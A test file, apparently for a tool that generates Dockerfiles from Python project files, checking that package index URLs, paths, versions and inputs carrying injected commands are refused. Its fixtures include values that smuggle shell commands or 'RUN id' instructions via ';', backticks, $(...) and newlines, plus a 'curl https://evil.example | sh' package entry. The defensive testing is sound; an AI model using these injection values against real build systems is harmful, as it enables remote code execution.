import { describe, expect, it } from 'vitest';
import { detect } from '../../../src/detect/index.js';
import type { UserError } from '../../../src/errors.js';
import { plan } from '../../../src/plan/index.js';
import { baseOf } from '../../../src/plan/types.js';
import { memoryReader } from '../../../src/project/reader.js';
import { renderDockerfile } from '../../../src/render/dockerfile.js';
import { BASE_DIGEST, inputsWith, irisLock, userError } from '../helpers.js';

/** Every variant's Dockerfile for a project, as the run would write them. */
function dockerfilesOf(tree: Record<string, string>, inputs: Record<string, string> = {}): string[] {
  return plan(detect(memoryReader(tree)), inputsWith(inputs), { hasDockerignore: false }).map((planned) => {
    baseOf(planned).digest ??= BASE_DIGEST;
    if (planned.pythonInstaller) planned.pythonInstaller.digest ??= BASE_DIGEST;
    return renderDockerfile(planned, irisLock());
  });
}

/** The UserError a project is refused with, which must be one line: it is printed and annotated. */
function refused(tree: Record<string, string>, inputs: Record<string, string> = {}): UserError {
  const error = userError(() => dockerfilesOf(tree, inputs));
  expect(error.located).not.toMatch(/[\n\r\u2028\u2029]/);
  return error;
}

const SHAPE = 'must be an http(s) URL without spaces, quotes or shell characters';

describe('index URLs a repository writes reach the Dockerfile only as plain http(s) URLs', () => {
  it("refuses a requirements file's --index-url that would run a command in the RUN line", () => {
    const error = refused({
      'requirements.txt': 'numpy\n# the mirror\n--index-url https://x/simple;id>/tmp/pwned;true\n',
    });
    expect(error.phase).toBe('detect');
    expect(error.located).toBe(
      `requirements.txt:3: --index-url ${SHAPE}: 'https://x/simple;id>/tmp/pwned;true'`,
    );
  });

  it.each([
    ['-i', 'https://x/simple`id`'],
    ['--extra-index-url', 'https://x/$(id)'],
    ['--extra-index-url', 'https://x/simple|sh'],
  ])('refuses %s %s in a requirements file', (option, url) => {
    expect(refused({ 'requirements.txt': `${option} ${url}\nnumpy\n` }).located).toBe(
      `requirements.txt:1: ${option} ${SHAPE}: '${url}'`,
    );
  });

  it('refuses one in a file the requirements file includes, at its own line', () => {
    const error = refused({
      'requirements.txt': '-r base.txt\nnumpy\n',
      'base.txt': 'pandas\n--extra-index-url https://x/simple;id\n',
    });
    expect(error.source).toEqual({ file: 'base.txt', line: 2 });
  });

  it('refuses a Pipfile [[source]] url with a newline, which would add instructions', () => {
    const error = refused({
      Pipfile: '[[source]]\nurl = "https://x/simple\\nRUN id"\nname = "mirror"\n\n[packages]\nnumpy = "*"\n',
    });
    expect(error.located).toBe(`Pipfile:2: [[source]] url ${SHAPE}: 'https://x/simple\\nRUN id'`);
  });

  it.each([
    ['tool.uv.index', 'https://x/simple\nRUN id'],
    ['tool.poetry.source', 'https://x/simple\nRUN id'],
    ['tool.pdm.source', 'https://x/simple;id'],
  ])('refuses a pyproject [[%s]] url %j, which would add instructions or commands', (section, url) => {
    const error = refused({
      'pyproject.toml': `[project]\nname = "x"\ndependencies = ["numpy"]\n[[${section}]]\nname = "mirror"\nurl = ${JSON.stringify(url)}\n`,
    });
    expect(error.located).toBe(
      `pyproject.toml:6: [[${section}]] url ${SHAPE}: '${url.replace('\n', '\\n')}'`,
    );
  });

  it('refuses a [tool.uv] index-url with a newline', () => {
    const error = refused({
      'pyproject.toml':
        '[project]\nname = "x"\ndependencies = ["numpy"]\n\n[tool.uv]\nindex-url = "https://x/simple\\nRUN id"\n',
    });
    expect(error.located).toBe(`pyproject.toml:6: [tool.uv] index-url ${SHAPE}: 'https://x/simple\\nRUN id'`);
  });

  it("refuses a conda environment's pip --index-url with a command in it", () => {
    const error = refused({
      'environment.yml':
        'dependencies:\n  - python=3.11\n  - pip:\n    - --index-url https://x/simple;id\n    - numpy\n',
    });
    expect(error.located).toBe(`environment.yml:4: --index-url ${SHAPE}: 'https://x/simple;id'`);
  });

  it("refuses cog's python_packages --extra-index-url with a command in it", () => {
    const error = refused({
      'cog.yaml': 'build:\n  python_packages:\n    - torch==2.1.0 --extra-index-url https://x/simple&&id\n',
    });
    expect(error.located).toBe(`cog.yaml:3: --extra-index-url ${SHAPE}: 'https://x/simple&&id'`);
  });

  it('refuses an index URL that names an environment variable, which no phase expands', () => {
    const error = refused({
      'requirements.txt': `--extra-index-url https://\${PIP_TOKEN}@pypi.example/simple\nnumpy\n`,
    });
    expect(error.located).toMatch(
      /^requirements\.txt:1: --extra-index-url uses \$\{PIP_TOKEN\}, an environment variable this action does not expand: .*input 'index-url' or 'extra-index-urls', from a secret/,
    );
  });

  it.each([
    ['index-url', 'https://x/simple;id'],
    ['extra-index-urls', 'https://ok.example/simple\nhttps://x/$(id)'],
    ['pytorch-index-url', 'https://x/whl`id`'],
  ])(
    "refuses input '%s' when it is no plain URL: it may come from an expression a pull request sets",
    (name, value) => {
      const error = refused({ 'requirements.txt': 'numpy\n' }, { [name]: value });
      expect(error.phase).toBe('plan');
      expect(error.message.startsWith(`input '${name}' ${SHAPE}: '`)).toBe(true);
    },
  );

  it('writes valid URLs as they were written: ports, paths, %-escapes, queries', () => {
    const [dockerfile] = dockerfilesOf({
      'requirements.txt':
        '--index-url https://pypi.example:8443/a%40b/simple/\n--extra-index-url http://[::1]:3141/root/dev/+simple/?x=1\nnumpy\n',
    });
    expect(dockerfile).toContain(
      '    && SOURCE_DATE_EPOCH=0 /opt/venv/bin/pip install --require-hashes --no-deps --index-url https://pypi.example:8443/a%40b/simple/ --extra-index-url http://[::1]:3141/root/dev/+simple/?x=1 \\\n    -r /opt/ml-container/requirements.lock \\\n',
    );
  });

  it('takes an index with credentials, which reach pip only as a build secret', () => {
    const [dockerfile] = dockerfilesOf({
      'requirements.txt': '--index-url https://user:p%40ss@pypi.example:8443/private/simple/\nnumpy\n',
    });
    expect(dockerfile).not.toContain('p%40ss');
    expect(dockerfile).toContain('PIP_CONFIG_FILE=/run/secrets/pip-config /opt/venv/bin/pip install');
    expect(dockerfile).toContain('# index: https://pypi.example:8443/private/simple/ (credentials given');
  });
});

describe('names and paths a repository writes reach the Dockerfile only on one line', () => {
  const COG =
    'build:\n  python_version: "3.11"\n  python_requirements: requirements.txt\npredict: "predict.py:Predictor"\n';
  const files = { 'requirements.txt': 'numpy\n', 'predict.py': '' };

  it("refuses cog's python_requirements with a newline in it", () => {
    const error = refused({
      ...files,
      'cog.yaml': COG.replace('requirements.txt', '"req\\nRUN id\\n.txt"'),
      'req\nRUN id\n.txt': 'numpy\n',
    });
    expect(error.located).toBe(
      "cog.yaml:3: `python_requirements` must be a path without newlines or other control characters: 'req\\nRUN id\\n.txt'",
    );
  });

  it("refuses cog's predict with a newline in it", () => {
    const error = refused({
      ...files,
      'cog.yaml': COG.replace('"predict.py:Predictor"', '"predict\\u2028RUN id.py:Predictor"'),
    });
    expect(error.located).toBe(
      "cog.yaml:4: `predict` must be a path without newlines or other control characters: 'predict\\u2028RUN id.py'",
    );
  });

  it("refuses a pyproject script whose target has a newline (it would be the image's command)", () => {
    const error = refused({
      'pyproject.toml':
        '[project]\nname = "x"\ndependencies = ["numpy"]\n\n[project.scripts]\nserve = "app:main\\nRUN id"\n',
    });
    expect(error.located).toBe(
      "pyproject.toml:6: script 'serve' must be a path without newlines or other control characters: 'app:main\\nRUN id'",
    );
  });

  it.each([['"ffmpeg; curl https://evil.example | sh"'], ['"ffmpeg\\nRUN id"'], ['"ffmpeg=1.0"']])(
    "refuses cog's system_packages item %s, which apt-get install would be given",
    (item) => {
      const error = refused({
        ...files,
        'cog.yaml': `build:\n  system_packages:\n    - ${item}\n  python_requirements: requirements.txt\n`,
      });
      expect(error.located).toMatch(/^cog\.yaml:3: `system_packages` item '.*' is not a Debian package name/);
    },
  );

  it.each([
    ['cog.yaml', { ...files, 'cog.yaml': COG.replace('"3.11"', '"3.11\\nRUN id"') }, 'cog.yaml:2'],
    [
      'Pipfile',
      { Pipfile: '[packages]\nnumpy = "*"\n\n[requires]\npython_version = "3.11\\nRUN id"\n' },
      'Pipfile:5',
    ],
  ])('refuses a Python version with a newline in %s', (_name, tree, where) => {
    expect(refused(tree).located.startsWith(`${where}: `)).toBe(true);
  });

  it('takes only the version from a .python-version that goes on', () => {
    for (const dockerfile of dockerfilesOf({
      '.python-version': '3.11\nRUN id\n',
      'requirements.txt': 'numpy\n',
    })) {
      expect(dockerfile).not.toMatch(/^RUN id/m);
      expect(dockerfile).toContain('id=ml-container-pip-cpu-py3.11,');
    }
  });

  it("refuses input 'python-version' with a newline", () => {
    const error = userError(() =>
      dockerfilesOf({ 'requirements.txt': 'numpy\n' }, { 'python-version': '3.11\nRUN id' }),
    );
    expect(error.phase).toBe('inputs');
  });

  it.each([['python:3.11 AS x\nRUN id'], [`python:\${TAG}`], ['python:3.11@sha256:aa@sha256:bb']])(
    "refuses input 'base-image' %j, which FROM would be given",
    (value) => {
      const error = refused({ 'requirements.txt': 'numpy\n' }, { 'base-image': value });
      expect(error.message).toMatch(/^input 'base-image' must be an image reference like /);
    },
  );
});
